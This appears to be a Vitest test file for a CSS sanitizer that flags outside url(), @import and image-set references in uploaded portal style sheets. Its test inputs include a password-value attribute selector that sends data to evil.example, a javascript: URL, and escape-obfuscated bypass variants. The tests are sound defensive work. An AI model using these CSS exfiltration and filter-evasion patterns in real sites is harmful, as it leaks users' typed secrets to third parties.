import { describe, expect, it } from 'vitest';
import { styleSheetProblems } from './style-sheet.ts';

describe('uploaded style sheets stay in the portal (docs/security.md "Other measures")', () => {
  it('accepts paths in the portal, relative files and data: URLs', () => {
    const css = [
      'body { background: url(/assetportal/api/config/logo) no-repeat; }',
      ".a { background-image: url('images/tile.png'); }",
      '.b { background: url( "data:image/png;base64,iVBORw0KGgo=" ); }',
      '@font-face { font-family: X; src: url(../font.woff2) format("woff2"), local("Arial"); }',
      '.c::before { content: "Note: see the help page"; }',
      '/* url(https://example.org/in-a-comment.png) @import "x.css"; */',
      '.d { font-family: "Segoe UI", sans-serif; }',
    ].join('\n');
    expect(styleSheetProblems(css)).toEqual([]);
  });

  it('answers every outside url(), @import and address in a string, with its line', () => {
    const css = [
      '@import "theme.css";',
      'input[type=password][value^="a"] { background: url(https://evil.example/a); }',
      ".x { background: url('//evil.example/b'); }",
      '.y { background: URL( "HTTP://evil.example/c" ); }',
      '.z { background: image-set("https://evil.example/d" 1x); }',
      '.e { background: url(/\\\\evil.example/e); }',
      '@IMPORT url(/ok.css);',
      '.f { background: url(javascript:alert(1)); }',
    ].join('\n');
    expect(styleSheetProblems(css)).toEqual([
      { line: 1, what: '@import' },
      { line: 2, what: 'url(https://evil.example/a)' },
      { line: 3, what: 'url(//evil.example/b)' },
      { line: 4, what: 'url(HTTP://evil.example/c)' },
      { line: 5, what: '"https://evil.example/d"' },
      { line: 6, what: 'url(/\\evil.example/e)' },
      { line: 7, what: '@import' },
      { line: 8, what: 'url(javascript:alert(1)' },
    ]);
  });

  it('sees through CSS escapes, comments between lines and characters URL parsers drop', () => {
    const css = [
      '/* a comment\nover two lines */',
      '.a { background: u\\72l(https://evil.example/a); }',
      '.b { background: \\75 \\72 \\6c (https://evil.example/b); }',
      '@\\69mport "x.css";',
      '.c { background: url("ht\\9tps://evil.example/c"); }',
      '.d { background: url(\\68ttps://evil.example/d); }',
      '.e { background: url("\\\n//evil.example/e"); }',
    ].join('\n');
    expect(styleSheetProblems(css).map((p) => p.line)).toEqual([3, 4, 5, 6, 7, 8]);
  });
});
